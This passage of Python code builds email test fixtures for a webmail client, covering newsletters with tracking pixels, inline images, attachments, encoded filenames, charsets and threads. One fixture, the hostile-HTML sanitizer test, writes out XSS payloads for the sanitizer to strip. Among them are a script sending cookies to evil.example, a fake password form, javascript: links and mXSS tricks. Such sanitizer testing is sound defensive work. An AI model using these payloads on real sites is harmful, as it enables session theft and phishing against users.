        "and literal <b>, <script>, &, &amp; that must be HTML-escaped when rendered",
        ["https://docs.example.test/guide?section=imap&lang=en#folders",
         "http://staging.example.test:8080/login?next=/inbox&debug=1",
         "mailto:dev@lists.example.test?subject=Hello%20list&body=Hi",
         "<script>alert(\"not executed\")</script>", "Tom & Jerry, AT&T, R&D, 1 < 2 && 3 > 2"])

    # 2. HTML newsletter with remote content ------------------------------------------------------
    nw = Person("Northwind Outdoor", "news@northwind-outdoor.example", "", 0)
    date = D(2026, 11, 4, 7, 30, 0, 0)
    subj = "Northwind Outdoor: November picks, up to 30% off winter gear"
    u = "a1b2c3d4e5"
    html_body = f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Northwind Outdoor - November picks</title>
<style type="text/css">
@import url(https://fonts.northwind-outdoor.example/css2?family=Inter:wght@400;700);
body {{ margin:0; padding:0; background:#f4f1ea; }}
.btn {{ background:#2f6b3b; color:#ffffff !important; padding:12px 24px; text-decoration:none; border-radius:4px; display:inline-block; }}
.price {{ color:#b3261e; font-weight:700; }}
@media only screen and (max-width: 600px) {{ .col {{ display:block !important; width:100% !important; }} }}
</style>
</head>
<body style="margin:0;padding:0;background-color:#f4f1ea;">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background:url(https://img.northwind-outdoor.example/bg/snow-texture.jpg) repeat #f4f1ea;">
<tr><td align="center" style="padding:24px 0;">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" style="background-color:#ffffff;font-family:Inter,Arial,sans-serif;color:#222222;">
<tr><td style="padding:24px;"><a href="https://www.northwind-outdoor.example/?utm_source=newsletter&amp;utm_medium=email&amp;utm_campaign=nov26"><img src="https://img.northwind-outdoor.example/logo-280x60.png" width="280" height="60" alt="Northwind Outdoor" style="display:block;border:0;"></a></td></tr>
<tr><td><img src="https://img.northwind-outdoor.example/hero/november-2026.jpg" width="600" height="300" alt="New winter jackets" style="display:block;width:100%;height:auto;border:0;"></td></tr>
<tr><td style="padding:24px;font-size:16px;line-height:24px;">
<h1 style="font-size:24px;margin:0 0 12px 0;color:#2f6b3b;">November picks</h1>
<p style="margin:0 0 16px 0;">Hi Alice, the nights are getting longer &mdash; here are our favourite pieces for the cold season.</p>
</td></tr>
<tr><td style="padding:0 24px;">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0">
<tr>
<td class="col" width="50%" valign="top" style="padding:8px;">
<a href="https://www.northwind-outdoor.example/p/fjell-parka?utm_source=newsletter"><img src="https://img.northwind-outdoor.example/p/fjell-parka-260.jpg" width="260" height="260" alt="Fjell parka" style="display:block;border:0;"></a>
<p style="margin:8px 0 0 0;font-weight:700;">Fjell down parka</p>
<p style="margin:4px 0 0 0;"><s>&euro;289</s> <span class="price">&euro;199</span></p>
</td>
<td class="col" width="50%" valign="top" style="padding:8px;">
<a href="https://www.northwind-outdoor.example/p/tundra-boots?utm_source=newsletter"><img src="https://img.northwind-outdoor.example/p/tundra-boots-260.jpg" width="260" height="260" alt="Tundra boots" style="display:block;border:0;"></a>
<p style="margin:8px 0 0 0;font-weight:700;">Tundra winter boots</p>
<p style="margin:4px 0 0 0;"><s>&euro;159</s> <span class="price">&euro;119</span></p>
</td>
</tr>
</table>
</td></tr>
<tr><td align="center" style="padding:24px;"><a class="btn" href="https://www.northwind-outdoor.example/sale?utm_source=newsletter&amp;utm_campaign=nov26" style="background:#2f6b3b;color:#ffffff;padding:12px 24px;text-decoration:none;border-radius:4px;">Shop the sale</a></td></tr>
<tr><td style="padding:16px 24px;font-size:12px;line-height:18px;color:#888888;border-top:1px solid #eeeeee;">
You are receiving this because you subscribed at northwind-outdoor.example.<br>
<a href="https://www.northwind-outdoor.example/unsubscribe?u={u}" style="color:#888888;">Unsubscribe</a> |
<a href="https://www.northwind-outdoor.example/preferences?u={u}" style="color:#888888;">Preferences</a> |
<a href="https://www.northwind-outdoor.example/view/nov26?u={u}" style="color:#888888;">View in browser</a><br>
Northwind Outdoor Ltd, 1 Example Street, Testville
</td></tr>
</table>
</td></tr>
</table>
<img src="https://t.northwind-outdoor.example/open/{u}.gif?c=nov26" width="1" height="1" alt="" style="display:block;width:1px;height:1px;border:0;">
</body>
</html>
"""
    text_body = ("NORTHWIND OUTDOOR - November picks\n\nHi Alice, the nights are getting longer - here are our\n"
                 "favourite pieces for the cold season.\n\n"
                 "* Fjell down parka: EUR 199 (was EUR 289)\n  https://www.northwind-outdoor.example/p/fjell-parka\n"
                 "* Tundra winter boots: EUR 119 (was EUR 159)\n  https://www.northwind-outdoor.example/p/tundra-boots\n\n"
                 "Shop the sale: https://www.northwind-outdoor.example/sale\n\n"
                 f"Unsubscribe: https://www.northwind-outdoor.example/unsubscribe?u={u}\n")
    mid = make_msgid("special-newsletter", "mailer.northwind-outdoor.example", date, 3)
    ent = multipart("alternative", [text_entity(text_body), text_entity(html_body, "html", cte="quoted-printable")],
                    make_boundary("newsletter", 1))
    raw = message(std_top(fmt_addr(nw.name, nw.email), ALICE_TO, fold_ascii("Subject", subj), date, mid,
                          sender_domain="mailer.northwind-outdoor.example",
                          extra=[("List-Id", "Northwind Outdoor News <news.northwind-outdoor.example>"),
                                 ("List-Unsubscribe", f"<https://www.northwind-outdoor.example/unsubscribe?u={u}>,\r\n"
                                                      " <mailto:unsubscribe@northwind-outdoor.example?subject=unsubscribe>"),
                                 ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                                 ("Precedence", "bulk")]), ent)
    add("INBOX", "html-newsletter-remote-images", raw, subj, date, nw.display(), ALICE.display(), mid,
        "multipart/alternative (text + QP html). HTML: nested layout tables, inline styles, <style> block with "
        "@import url(https://fonts.northwind-outdoor.example/...), background:url(https://img.northwind-outdoor.example/bg/snow-texture.jpg), "
        "remote <img> (logo, hero, 2 products), 1x1 tracking pixel https://t.northwind-outdoor.example/open/a1b2c3d4e5.gif?c=nov26, "
        "links with utm parameters, List-Unsubscribe(-Post) headers. Remote content must be blocked by default.",
        ["November picks", "Shop the sale", "@import url(https://fonts.northwind-outdoor.example/css2?family=Inter:wght@400;700);",
         "background:url(https://img.northwind-outdoor.example/bg/snow-texture.jpg)",
         '<img src="https://img.northwind-outdoor.example/hero/november-2026.jpg"',
         '<img src="https://t.northwind-outdoor.example/open/a1b2c3d4e5.gif?c=nov26" width="1" height="1"'], unread=True, parts_desc="alternative(text/plain, text/html)")

    # 3. inline cid: image ------------------------------------------------------------------------
    erin = COLLEAGUE_BY_FIRST["Erin"]
    date = D(2026, 10, 21, 16, 2, 44, -8)
    subj = "Inline logo via cid: reference"

    def logo_px(x: int, y: int) -> tuple:
        inside = 6 <= x <= 25 and 9 <= y <= 22
        border = inside and (x in (6, 25) or y in (9, 22))
        flap = inside and abs((y - 9) - min(x - 6, 25 - x) * 0.68) < 0.9
        return (255, 255, 255) if (border or flap) else (26, 77, 143)

    logo = make_png(32, 32, logo_px)
    html_body = ("<html>\n<body style=\"font-family:Arial,sans-serif;\">\n"
                 "<p><img src=\"cid:logo@example.test\" alt=\"WebMail logo\" width=\"32\" height=\"32\" "
                 "style=\"vertical-align:middle;\"> <b>WebMail</b> design update</p>\n"
                 "<p>Hi Alice,</p>\n<p>This is the new small logo for the signature block. It is embedded in the "
                 "message, so it should display even when remote images are blocked.</p>\n<p>Erin</p>\n</body>\n</html>\n")
    text_body = ("[WebMail logo] WebMail design update\n\nHi Alice,\n\nThis is the new small logo for the signature\n"
                 "block. It is embedded in the message, so it should display even when\nremote images are blocked.\n\nErin\n")
    related = multipart("related", [text_entity(html_body, "html", cte="quoted-printable"),
                                    attachment_entity(logo, "image/png", "logo.png", "inline", cid="logo@example.test")],
                        make_boundary("cid-related", 3), params='type="text/html"')
    ent = multipart("alternative", [text_entity(text_body), related], make_boundary("cid-alt", 3))
    mid = make_msgid("special-cid", erin.domain, date, 2)
    raw = message(std_top(fmt_addr(erin.name, erin.email), ALICE_TO, fold_ascii("Subject", subj), date, mid,
                          sender_domain=erin.domain, extra=[("X-Mailer", "Apple Mail (2.3774)")]), ent)
    add("INBOX", "html-inline-cid-logo", raw, subj, date, erin.display(), ALICE.display(), mid,
        "multipart/alternative( text/plain, multipart/related( text/html with <img src=\"cid:logo@example.test\">, "
        "image/png 32x32 base64 with Content-ID <logo@example.test>, Content-Disposition inline ) ). "
        "The cid: image must be rewritten to a local URL and shown; it must not appear as a regular attachment.",
        ["design update", "embedded in the message", '<img src="cid:logo@example.test"'], parts_desc="alternative(text/plain, related(text/html, image/png cid))")

    # 4a. PDF attachment ---------------------------------------------------------------------------
    billing = Person("Example Hosting Billing", "billing@hosting.example", "", 1)
    date = D(2026, 10, 2, 6, 0, 12, 1)
    subj = "Invoice 2026-10-042 (PDF attached)"
    pdf = make_pdf("Invoice 2026-10-042", ["Example Hosting GmbH", "Bill to: Alice Johnson, Example Corp", "",
                                           "Mail hosting, 25 mailboxes, October 2026 ....... EUR 125.00",
                                           "VAT 19% ........................................ EUR  23.75",
                                           "Total ........................................... EUR 148.75", "",
                                           "Payable within 14 days. Thank you for your business."])
    ent = multipart("mixed", [text_entity("Dear Alice Johnson,\n\nplease find attached invoice 2026-10-042 for "
                                          "October 2026.\n\nAmount due: EUR 148.75\n\nExample Hosting Billing\n"),
                              attachment_entity(pdf, "application/pdf", "invoice-2026-10-042.pdf")],
                    make_boundary("pdf", 1))
    mid = make_msgid("special-pdf", "hosting.example", date, 3)
    raw = message(std_top(fmt_addr(billing.name, billing.email), ALICE_TO, subj, date, mid,
                          sender_domain="hosting.example"), ent)
    add("INBOX", "attachment-pdf-invoice", raw, subj, date, billing.display(), ALICE.display(), mid,
        f"multipart/mixed with text/plain + application/pdf attachment invoice-2026-10-042.pdf "
        f"({len(pdf)} bytes, valid 1-page PDF 1.4, sha256 {hashlib.sha256(pdf).hexdigest()[:16]}...)",
        ["Amount due: EUR 148.75"], flagged=True, parts_desc="mixed(text/plain, application/pdf)")
    FIXTURE_BINARIES["invoice-2026-10-042.pdf"] = pdf

    # 4b. PNG + JPEG ----------------------------------------------------------------------------------
    ngozi = COLLEAGUE_BY_FIRST["Ngozi"]
    date = D(2026, 9, 18, 13, 45, 9, 1)
    subj = "Photos: PNG and JPEG attachments"
    bars = [30, 22, 40, 12, 35, 27]
    chart = make_png(64, 48, lambda x, y: (40, 110, 200) if (x % 10 < 7 and x // 10 < 6 and 47 - y < bars[x // 10])
                     else (250, 250, 250))
    photo = make_jpeg(64, 48, lambda bx, by: (min(255, 60 + bx * 24), min(255, 90 + by * 25), 200 - bx * 10))
    ent = multipart("mixed", [text_entity("Hi Alice,\n\nattached are the chart (PNG) and the photo from the "
                                          "offsite (JPEG).\n\nNgozi\n"),
                              attachment_entity(chart, "image/png", "ticket-volume-chart.png"),
                              attachment_entity(photo, "image/jpeg", "offsite-photo.jpg")],
                    make_boundary("images", 0))
    mid = make_msgid("special-images", ngozi.domain, date, 1)
    raw = message(std_top(fmt_addr(ngozi.name, ngozi.email), ALICE_TO, subj, date, mid, sender_domain=ngozi.domain), ent)
    add("INBOX", "attachment-png-and-jpeg", raw, subj, date, ngozi.display(), ALICE.display(), mid,
        f"multipart/mixed with image/png ticket-volume-chart.png (64x48, {len(chart)} bytes) and "
        f"image/jpeg offsite-photo.jpg (64x48 baseline JFIF, {len(photo)} bytes), both Content-Disposition attachment",
        ["attached are the chart (PNG)"], parts_desc="mixed(text/plain, image/png, image/jpeg)")
    FIXTURE_BINARIES["ticket-volume-chart.png"] = chart
    FIXTURE_BINARIES["offsite-photo.jpg"] = photo
    FIXTURE_BINARIES["logo.png"] = logo

    # 4c. RFC 2231 filenames ----------------------------------------------------------------------------
    juergen = COLLEAGUE_BY_FIRST["Jürgen"]
    date = D(2026, 10, 14, 8, 12, 30, 1)
    subj = "Attachment names with RFC 2231 encoding"
    name1 = "Übersicht Prüfungstermine 2027.txt"
    name2 = "Протокол совещания — октябрь 2026 (финальная версия).txt"
    from urllib.parse import quote as pct

    def rfc2231_sections(param: str, value: str) -> str:
        chunks, cur = [], ""
        for ch in value:
            enc = pct(ch, safe="")
            if len(cur) + len(enc) > 45:
                chunks.append(cur)
                cur = ""
            cur += enc
        chunks.append(cur)
        return ";\r\n ".join(f"{param}*{i}*={'utf-8' + chr(39) * 2 if i == 0 else ''}{c}" for i, c in enumerate(chunks))

    att1_text = "Prüfungstermine 2027\n\n15.01.2027  Mathematik\n22.01.2027  Physik\n05.02.2027  Informatik\n"
    att2_text = "Протокол совещания\n\n1. Выпуск версии 2.4 перенесён на декабрь.\n2. Ольга готовит перевод интерфейса.\n"
    e1 = Entity([("Content-Type", f"text/plain; charset=utf-8;\r\n name*=utf-8''{pct(name1, safe='')}"),
                 ("Content-Disposition", f"attachment;\r\n filename*=utf-8''{pct(name1, safe='')}"),
                 ("Content-Transfer-Encoding", "base64")], b64_encode(att1_text.encode("utf-8")))
    e2 = Entity([("Content-Type", "text/plain; charset=utf-8;\r\n " + rfc2231_sections("name", name2)),
                 ("Content-Disposition", "attachment;\r\n " + rfc2231_sections("filename", name2)),
                 ("Content-Transfer-Encoding", "base64")], b64_encode(att2_text.encode("utf-8")))
    ent = multipart("mixed", [text_entity("Hallo Alice,\n\nanbei die Übersicht der Prüfungstermine und das Protokoll "
                                          "von Ольга.\n\nGrüße\nJürgen\n", cte="quoted-printable"), e1, e2],
                    make_boundary("rfc2231", 2))
    mid = make_msgid("special-rfc2231", juergen.domain, date, 0)
    raw = message(std_top(fmt_addr(juergen.name, juergen.email, enc="Q"), ALICE_TO, subj, date, mid,
                          sender_domain=juergen.domain, extra=[("X-Mailer", "Thunderbird 128.4.0")]), ent)
    add("INBOX", "attachment-rfc2231-filenames", raw, subj, date, juergen.display(), ALICE.display(), mid,
        f"two text/plain attachments with RFC 2231 names: filename*=utf-8''... → \"{name1}\"; and a long name split "
        f"into RFC 2231 continuations filename*0*= / filename*1*= ... → \"{name2}\" (each section holds whole "
        f"characters). No plain filename= fallback is present.",
        ["anbei die Übersicht der Prüfungstermine"], parts_desc="mixed(text/plain, text/plain att, text/plain att)")

    # 4d. large attachment (the only one) --------------------------------------------------------------------
    liam = COLLEAGUE_BY_FIRST["Liam"]
    date = D(2026, 10, 28, 11, 5, 0, -5)
    big = pseudo_random_bytes(3 * 1024 * 1024, "webmail-large-attachment")
    sha = hashlib.sha256(big).hexdigest()
    subj = "Large attachment: site-backup-2026-10.bin (3 MiB)"
    ent = multipart("mixed", [text_entity(f"Hi Alice,\n\nhere is the backup you asked for.\n\nFile: site-backup-2026-10.bin\n"
                                          f"Size: {len(big)} bytes\nSHA-256: {sha}\n\nLiam\n"),
                              attachment_entity(big, "application/octet-stream", "site-backup-2026-10.bin")],
                    make_boundary("large", 0))
    mid = make_msgid("special-large", liam.domain, date, 0)
    raw = message(std_top(fmt_addr(liam.name, liam.email), ALICE_TO, subj, date, mid, sender_domain=liam.domain), ent)
    add("INBOX", "attachment-large-3mb", raw, subj, date, liam.display(), ALICE.display(), mid,
        f"the ONLY large message: application/octet-stream site-backup-2026-10.bin, exactly {len(big)} bytes "
        f"(SHA-256 counter-mode pseudo-random, sha256={sha}), base64",
        [f"SHA-256: {sha}"], parts_desc="mixed(text/plain, application/octet-stream 3 MiB)")

    # 5. charsets ------------------------------------------------------------------------------------------------
    francois = COLLEAGUE_BY_FIRST["François"]
    date = D(2026, 8, 27, 9, 3, 0, 1)
    subj = "Réunion à Zürich, Grüße & Straßenfest"
    body = ("Bonjour Alice,\n\nLa réunion à Zürich est confirmée pour le 12 septembre. Après la réunion, "
            "nous irons au Straßenfest de la Bahnhofstraße.\n\nJürgen dit : « Herzliche Grüße aus Zürich, über "
            "die Brücke und dann geradeaus. »\n\nÀ bientôt,\nFrançois\n\n© 2026 Example Corp - façade, naïve, "
            "Noël\n")
    mid = make_msgid("special-latin1", francois.domain, date, 0)
    raw = message(std_top(fmt_addr(francois.name, francois.email, "iso-8859-1", "ISO-8859-1", "Q"), ALICE_TO,
                          subject_value(subj, "Q", "iso-8859-1", "ISO-8859-1"), date, mid, sender_domain=francois.domain),
                  text_entity(body, charset="iso-8859-1", label="ISO-8859-1", cte="quoted-printable"))
    add("INBOX", "charset-iso-8859-1-qp", raw, subj, date, francois.display(), ALICE.display(), mid,
        "text/plain; charset=ISO-8859-1, quoted-printable (é=E9 à=E0 ü=FC ß=DF). Subject and From display name "
        "are =?ISO-8859-1?Q?...?= encoded-words.",
        ["La réunion à Zürich est confirmée", "Herzliche Grüße aus Zürich, über die Brücke", "Straßenfest"])

    yamada = COLLEAGUE_BY_FIRST["山田"]
    date = D(2026, 9, 10, 18, 20, 0, 9)
    subj = "会議の議事録と来週の予定について"
    body = ("アリスさん\n\nお疲れ様です。山田です。\n\n本日の会議の議事録をお送りします。\n\n"
            "１．新しい検索機能は来月リリース予定です。\n２．添付ファイルのプレビューを改善します。\n"
            "３．次回の会議は金曜日の午後三時からです。\n\nご確認のほど、よろしくお願いいたします。\n\n山田 太郎\n")
    mid = make_msgid("special-sjis", yamada.domain, date, 0)
    raw = message(std_top(fmt_addr(yamada.name, yamada.email, "shift_jis", "Shift_JIS", "B"), ALICE_TO,
                          subject_value(subj, "B", "shift_jis", "Shift_JIS"), date, mid, sender_domain=yamada.domain),
                  text_entity(body, charset="shift_jis", label="Shift_JIS", cte="8bit"))
    add("INBOX", "charset-shift-jis", raw, subj, date, yamada.display(), ALICE.display(), mid,
        "text/plain; charset=Shift_JIS, Content-Transfer-Encoding 8bit (raw Shift_JIS bytes in the body). "
        "Subject and From display name are =?Shift_JIS?B?...?= encoded-words.",
        ["本日の会議の議事録をお送りします。", "次回の会議は金曜日の午後三時からです。"])

    olga = COLLEAGUE_BY_FIRST["Ольга"]
    date = D(2026, 11, 2, 12, 40, 0, 3)
    subj = "Отчёт за октябрь: всё готово"
    body = ("Здравствуйте, Алиса!\n\nОтчёт за октябрь готов. Перевод интерфейса на русский язык завершён на 98%, "
            "осталось проверить ещё двенадцать строк.\n\nЁлка в офисе появится уже в декабре.\n\nС уважением,\nОльга\n")
    mid = make_msgid("special-koi8", olga.domain, date, 0)
    raw = message(std_top(fmt_addr(olga.name, olga.email, "koi8-r", "KOI8-R", "B"), ALICE_TO,
                          subject_value(subj, "B", "koi8-r", "KOI8-R"), date, mid, sender_domain=olga.domain),
                  text_entity(body, charset="koi8-r", label="KOI8-R", cte="8bit"))
    add("INBOX", "charset-koi8-r", raw, subj, date, olga.display(), ALICE.display(), mid,
        "text/plain; charset=KOI8-R, 8bit. Subject and From display name are =?KOI8-R?B?...?= encoded-words "
        "(includes ё/Ё).",
        ["Отчёт за октябрь готов.", "Ёлка в офисе появится уже в декабре."])

    date = D(2026, 10, 9, 15, 55, 0, -5)
    subj = "“Final” quarterly numbers – Liam’s notes…"
    body = ("Hi Alice,\n\nHere are my “final” notes on the quarterly numbers – please don’t forward yet.\n\n"
            "• Revenue: €1.2M (up 8%)\n• Costs — mostly hosting — are flat\n• The ‘enterprise’ tier™ grew fastest…\n\n"
            "Liam\n")
    mid = make_msgid("special-cp1252", liam.domain, date, 3)
    raw = message(std_top(fmt_addr(liam.name, liam.email), ALICE_TO, subject_value(subj, "Q", "cp1252", "windows-1252"),
                          date, mid, sender_domain=liam.domain, extra=[("X-Mailer", "Microsoft Outlook 16.0")]),
                  text_entity(body, charset="cp1252", label="windows-1252", cte="quoted-printable"))
    add("INBOX", "charset-windows-1252-smart-quotes", raw, subj, date, liam.display(), ALICE.display(), mid,
        "text/plain; charset=windows-1252, quoted-printable: curly quotes =93 =94 =91 =92, en/em dash =96 =97, "
        "euro =80, bullet =95, ellipsis =85, trademark =99. Subject is =?windows-1252?Q?...?=.",
        ["Here are my “final” notes on the quarterly numbers – please don’t forward yet.", "€1.2M",
         "The ‘enterprise’ tier™ grew fastest…"])

    date = D(2026, 10, 30, 17, 1, 0, 1)
    subj = "🎉 Launch party on Friday! 🚀🍕"
    body = ("Hi Alice! 👋\n\nWe shipped 2.3 🎉🎉 — thank you all! Party on Friday at 17:00 on the roof terrace ☀️.\n\n"
            "Menu: 🍕 pizza, 🥗 salad, 🍰 cake, 🍺/🧃 drinks\nTeam: 👩‍💻👨‍💻 (ZWJ sequences), 👍🏽 (skin tone), "
            "🇩🇪🇯🇵 (flags)\nMath: x² + y² = z², ½ ≠ ⅓, → ⇒ ∞\n\nSee you there!\nNgozi\n")
    mid = make_msgid("special-emoji", ngozi.domain, date, 1)
    raw = message(std_top(fmt_addr(ngozi.name, ngozi.email), ALICE_TO, subject_value(subj, "B"), date, mid,
                          sender_domain=ngozi.domain), text_entity(body, cte="8bit"))
    add("INBOX", "utf8-emoji", raw, subj, date, ngozi.display(), ALICE.display(), mid,
        "text/plain; charset=utf-8, 8bit raw UTF-8 body with emoji (incl. ZWJ sequences, skin-tone modifier, "
        "regional-indicator flags, supplementary-plane chars); Subject is =?UTF-8?B?...?= with emoji.",
        ["We shipped 2.3 🎉🎉", "👩‍💻👨‍💻", "🇩🇪🇯🇵"], unread=True)

    # 6. RFC 2047 header edge cases ------------------------------------------------------------------------------------
    aegir = Person("Þórsson, Ægir", "aegir.thorsson@example.test", "Ægir", 0)
    date = D(2026, 9, 24, 9, 30, 0, 0)
    subj = "Encoded sender display name (RFC 2047)"
    from_hdr = f"{encoded_word(aegir.name, enc='B')} <{aegir.email}>"
    mid = make_msgid("special-from-name", aegir.domain, date, 2)
    raw = message(std_top(from_hdr, ALICE_TO, subj, date, mid, cc=f"{encoded_word('Bjørn Ørsted', enc='Q')} <bjorn@example.test>"),
                  text_entity("Hi Alice,\n\nthe sender's display name is \"Þórsson, Ægir\": it contains a comma inside "
                              "an encoded-word, which must not split the address.\n\nÆgir\n", cte="quoted-printable"))
    add("INBOX", "rfc2047-encoded-from-name", raw, subj, date, aegir.display(),
        f"{ALICE.display()}; Cc: Bjørn Ørsted <bjorn@example.test>", mid,
        "From: =?UTF-8?B?...?= <aegir.thorsson@example.test> whose decoded display name \"Þórsson, Ægir\" "
        "contains a comma (must stay ONE address); Cc display name =?UTF-8?Q?Bj=C3=B8rn_=C3=98rsted?=.",
        ["it contains a comma inside an encoded-word"])

    zoe = COLLEAGUE_BY_FIRST["Zoë"]
    date = D(2026, 10, 6, 14, 18, 0, 1)
    subj = "Old-style RFC 2047 encoded attachment name"
    fname = "Résumé – Zoë Ångström.pdf"
    cv = make_pdf("Curriculum Vitae", ["Zoe Angstrom", "QA Lead", "", "Experience: 10 years of testing mail clients."])
    att = Entity([("Content-Type", f'application/pdf;\r\n name="{encoded_word(fname)}"'),
                  ("Content-Disposition", f'attachment;\r\n filename="{encoded_word(fname)}"'),
                  ("Content-Transfer-Encoding", "base64")], b64_encode(cv))
    ent = multipart("mixed", [text_entity("Hi Alice,\n\nmy CV for the internal transfer is attached.\n\nZoë\n",
                                          cte="quoted-printable"), att], make_boundary("oldstyle", 1))
    mid = make_msgid("special-oldstyle-name", zoe.domain, date, 3)
    raw = message(std_top(fmt_addr(zoe.name, zoe.email), ALICE_TO, subj, date, mid, sender_domain=zoe.domain,
                          extra=[("X-Mailer", "Microsoft Outlook 16.0")]), ent)
    add("INBOX", "rfc2047-encoded-attachment-name", raw, subj, date, zoe.display(), ALICE.display(), mid,
        f"application/pdf attachment whose name=\"...\" and filename=\"...\" parameters contain an RFC 2047 "
        f"encoded-word (non-standard, Outlook/old-mailer style) → \"{fname}\". Forbidden by RFC 2047 section 5 but common; "
        f"Python reports InvalidHeaderDefect yet decodes the name, and so must WebMail (the only defect allowed in a "
        f"non-malformed fixture)",
        ["my CV for the internal transfer is attached"], parts_desc="mixed(text/plain, application/pdf)")

    date = D(2026, 10, 19, 10, 0, 0, 1)
    subj = "Grüße aus München: Frühjahrsplanung 2027"
    subj_hdr = (encoded_word("Grüße aus München: Früh", enc="Q") + "\r\n " + encoded_word("jahrsplanung 2027", enc="B"))
    mid = make_msgid("special-split-subject", juergen.domain, date, 0)
    raw = message(std_top(fmt_addr(juergen.name, juergen.email), ALICE_TO, subj_hdr, date, mid,
                          sender_domain=juergen.domain),
                  text_entity("Hallo Alice,\n\ndie Planung für das Frühjahr 2027 steht. Details folgen.\n\nJürgen\n",
                              cte="quoted-printable"))
    add("INBOX", "rfc2047-subject-split-folded", raw, subj, date, juergen.display(), ALICE.display(), mid,
        "Subject split across two encoded-words on two folded lines, split in the middle of the word "
        "\"Frühjahrsplanung\", first word Q-encoded, second B-encoded; the folding whitespace between adjacent "
        "encoded-words must be dropped (no space in \"Frühjahrsplanung\")",
        ["die Planung für das Frühjahr 2027 steht"])

    # 9. hostile html -----------------------------------------------------------------------------------------
    mallory = Person("Mallory", "mallory@evil.example", "", 0)
    date = D(2026, 10, 25, 3, 33, 0, 0)
    subj = "Hostile HTML test"
    hostile = """<html>
<head>
<meta http-equiv="refresh" content="0; url=https://evil.example/phish">
<link rel=preconnect href=https://tracker.example>
<link rel="stylesheet" href="https://evil.example/steal.css">
<base href="https://evil.example/">
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body { background:url("javascript:alert('css')"); } .x { behavior:url(#default#time2); }</style>
</head>
<body onload="alert('onload')">
<h1>Hostile HTML test</h1>
<p id="safe">SAFE-CONTENT-MARKER: if you can read this sentence, the harmless content survived sanitization.</p>
<img src="x" onerror="alert('onerror')" alt="broken image with onerror">
<img src="/account/logout" alt="relative URL pointing at the logout endpoint">
<a href="javascript:alert('link')">javascript: link</a>
<a href="JaVaScRiPt&#58;alert('entity')">obfuscated javascript link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data: URL link</a>
<a href="https://example.test/ok" onclick="alert('click')" target="_self">normal link with onclick</a>
<form action="https://evil.example/collect" method="post">
<input type="password" name="pw" placeholder="Re-enter your password"><button type="submit" formaction="javascript:alert('formaction')">Verify</button>
</form>
<iframe src="https://evil.example/frame" width="300" height="200"></iframe>
<iframe srcdoc="&lt;script&gt;alert('srcdoc')&lt;/script&gt;"></iframe>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="40"><a xlink:href="https://example.test/"><animate attributeName="href" to="javascript:alert(1)" /><text x="10" y="20">SVG link</text></a><script>alert('svg')</script></svg>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red;">full-window overlay</div>
<p style="color:expression(alert('ie'))">CSS expression</p>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript>
</body>
</html>
"""
    text_body = "Hostile HTML test.\n\nSAFE-CONTENT-MARKER: the plain-text alternative is harmless.\n"
    ent = multipart("alternative", [text_entity(text_body), text_entity(hostile, "html", cte="quoted-printable")],
                    make_boundary("hostile", 0))
    mid = make_msgid("special-hostile", "evil.example", date, 0)
    raw = message(std_top(fmt_addr(mallory.name, mallory.email), ALICE_TO, subj, date, mid, sender_domain="evil.example"), ent)
    add("INBOX", "hostile-html-sanitizer", raw, subj, date, mallory.display(), ALICE.display(), mid,
        "multipart/alternative whose HTML contains <script>, onload=/onerror=/onclick=, javascript: and data: links "
        "(plain and entity-obfuscated), <form> with formaction=javascript:, <iframe> (src and srcdoc), <object>, <embed>, "
        "<img src=\"/account/logout\"> (CSRF via relative URL), <link rel=preconnect href=https://tracker.example>, "
        "<meta http-equiv=refresh>, <base href>, SVG <animate attributeName=\"href\" to=\"javascript:alert(1)\">, "
        "CSS expression()/behavior/javascript: url, position:fixed overlay, mXSS and noscript tricks. After "
        "sanitization none of them may survive; the paragraph with SAFE-CONTENT-MARKER must.",
        ["SAFE-CONTENT-MARKER", "<script>document.location=", "onerror=\"alert('onerror')\"",
         '<a href="javascript:alert(\'link\')">', '<form action="https://evil.example/collect"',
         '<iframe src="https://evil.example/frame"', '<img src="/account/logout"',
         "<link rel=preconnect href=https://tracker.example>",
         '<animate attributeName="href" to="javascript:alert(1)" />'], parts_desc="alternative(text/plain, text/html)")
    return fx


FIXTURE_BINARIES: dict[str, bytes] = {}


# --------------------------------------------------------------------------- threads

@dataclass
class TMsg:
    folder: str
    author: Person
    to: list
    cc: list
    date: datetime
    text: str
    parent: int | None  # index into thread list
    subject_prefix: str = "Re: "


def thread_fixtures() -> list[Fixture]:
    C = COLLEAGUE_BY_FIRST
    threads = [
        ("q4-roadmap", "Q4 roadmap review", [
            TMsg("INBOX", C["Carol"], [ALICE], [BOB], D(2026, 10, 5, 9, 12, 0, -5),
                 "Hi Alice,\n\nI've put the draft Q4 roadmap in the planning folder. The three big items are\n"
                 "the IMAP sync refactor, the new search indexer and the accessibility audit.\n\n"
                 "Can you review it before Thursday?\n\nCarol", None, ""),
            TMsg("Sent", ALICE, [C["Carol"]], [BOB], D(2026, 10, 5, 17, 40, 0, 1),
                 "Hi Carol,\n\nLooks good overall. I think the search indexer is too big for one quarter;\n"
                 "can we split it into an indexing phase and a UI phase?\n\nAlice", 0),
            TMsg("INBOX", C["Carol"], [ALICE], [BOB], D(2026, 10, 6, 8, 5, 0, -5),
                 "Good idea. I've split it into two milestones. Bob, does the indexing phase\n"
                 "look realistic for your team?\n\nCarol", 1),
            TMsg("INBOX", BOB, [C["Carol"], ALICE], [], D(2026, 10, 6, 15, 22, 0, 1),
                 "Replying to Alice's suggestion directly: yes, splitting works for us. The\n"
                 "indexing phase alone is about six weeks.\n\nBob", 1),
            TMsg("Sent", ALICE, [BOB, C["Carol"]], [], D(2026, 10, 7, 9, 0, 0, 1),
                 "Great, then we're agreed. I'll present the updated roadmap on Thursday.\n\nAlice", 3),
        ]),
        ("offsite-venue", "Offsite venue options for March", [
